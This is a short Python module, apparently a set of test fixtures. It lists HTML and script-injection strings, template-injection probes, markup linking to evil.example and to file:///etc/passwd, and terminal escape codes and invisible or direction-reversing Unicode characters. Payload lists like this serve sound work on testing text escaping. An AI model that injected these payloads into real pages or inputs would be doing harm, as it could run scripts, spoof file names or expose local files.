"""What somebody may write where a text is expected, to have a page run, load or hide something."""

from __future__ import annotations

MARKUP = (
    "<script>evil()</script>",
    "</title></style></script><script>evil()</script>",
    "<img src=x onerror=evil()>",
    '"><svg onload=evil()>',
    "'><iframe srcdoc='<script>evil()</script>'>",
    '" onmouseover=evil() x="',
    "' onfocus=evil() autofocus '",
    "` onclick=evil() `",
    "javascript:evil()",
    "<a href=javascript:evil()>x</a>",
    "<!--<script>--><script>evil()</script>",
    "<![CDATA[<script>evil()</script>]]>",
    "{{ 7 * 7 }}{% raw %}{{ evil }}",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "&#60;script&#62;",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<x onclick=evil() style=background:url(//evil.example)>",
    "[link=file:///etc/passwd]x[/link][bold]",
)
# Obeyed by a terminal, or read by nobody: written as their codes.
UNSEEN = (
    "\x1b[2J\x1b]0;x\x07",
    "\x9b31m",
    "\r\x08",
    "\x00",
    "\u202egpj.exe",
    "\u2066a\u2069",
    "\u200b\u2060\ufeff",
    "\u2028\u2029",
    "\udc80",
    "\U000e0041",
)
